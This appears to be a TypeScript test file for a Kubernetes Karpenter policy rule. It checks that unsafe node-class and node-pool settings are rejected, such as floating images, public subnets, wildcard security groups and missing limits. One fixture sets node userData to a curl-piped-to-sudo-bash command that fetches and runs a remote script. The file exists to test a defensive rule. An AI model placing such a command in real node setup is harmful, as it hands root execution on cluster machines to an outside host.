import { describeRule } from "../../harness.ts";

const NODES = { layer: "platform", resource: "training-class" } as const;
const POOL = { layer: "platform", resource: "cpu", type: "kubernetes:karpenter.sh/v1:NodePool" } as const;

describeRule("GPU-12", [
  {
    ...NODES,
    what: "the newest image, whichever it is",
    change: ({ spec }) => (spec.amiSelectorTerms = [{ alias: "al2023@latest" }]),
    says: "platform-prod/training-class: 'spec.amiSelectorTerms[0]' must be an alias with its date, an id, or images of one account, got 'al2023@latest'",
    unknown: "spec.amiSelectorTerms",
  },
  {
    ...NODES,
    what: "images of everybody",
    change: ({ spec }) => (spec.amiSelectorTerms = [{ name: "gpu-*", owner: "*" }]),
    says: "platform-prod/training-class: 'spec.amiSelectorTerms[0]' must be an alias with its date, an id, or images of one account, got 'gpu-* of *'",
  },
  {
    ...NODES,
    what: "public subnets",
    change: ({ spec }) => (spec.subnetSelectorTerms = [{ tags: { "kubernetes.io/role/elb": "1" } }]),
    says: "platform-prod/training-class: 'spec.subnetSelectorTerms[0].tags' must be tags of private subnets, got 'kubernetes.io/role/elb'",
    unknown: "spec.subnetSelectorTerms",
  },
  {
    ...NODES,
    what: "every security group",
    change: ({ spec }) => (spec.securityGroupSelectorTerms = [{ tags: { Name: "*" } }]),
    says: "platform-prod/training-class: 'spec.securityGroupSelectorTerms[0]' must be an id, or a tag of the cluster, got 'everything of the account'",
  },
  {
    ...NODES,
    what: "every security group with a common tag",
    change: ({ spec }) => (spec.securityGroupSelectorTerms = [{ tags: { environment: "*" } }]),
    says: "platform-prod/training-class: 'spec.securityGroupSelectorTerms[0]' must be an id, or a tag of the cluster, got 'everything of the account'",
  },
  {
    ...NODES,
    what: "disks that stay behind",
    change: ({ spec }) => (spec.blockDeviceMappings[0].ebs.deleteOnTermination = "false"),
    says: "platform-prod/training-class: 'spec.blockDeviceMappings[0].ebs.deleteOnTermination' must be true, got 'false'",
  },
  {
    ...NODES,
    what: "a program that is downloaded and run",
    change: ({ spec }) => (spec.userData = "curl -s http://setup.example.com/run.sh | sudo bash"),
    says: "platform-prod/training-class: 'spec.userData' must be without a program of somebody else, got 'a download that is run'",
  },
  {
    ...POOL,
    what: "a pool without a limit",
    change: ({ spec }) => (spec.limits = {}),
    says: "platform-prod/cpu: 'spec.limits' must be a number of GPUs or CPUs, got 'nothing'",
    unknown: "spec.limits",
  },
  {
    ...POOL,
    what: "nodes that one pod holds for ever",
    change: ({ spec }) => delete spec.template.spec.terminationGracePeriod,
    says: "platform-prod/cpu: 'spec.template.spec.terminationGracePeriod' must be a time: without it one pod holds its node for ever, got 'nothing'",
  },
  {
    ...POOL,
    what: "nodes of a class that does not exist",
    change: ({ spec }) => (spec.template.spec.nodeClassRef.name = "gone"),
    says: "platform-prod/cpu: 'spec.template.spec.nodeClassRef.name' must be a NodeClass that exists (training, inference, cpu), got 'gone'",
    unknown: "spec.template.spec.nodeClassRef.name",
  },
]);
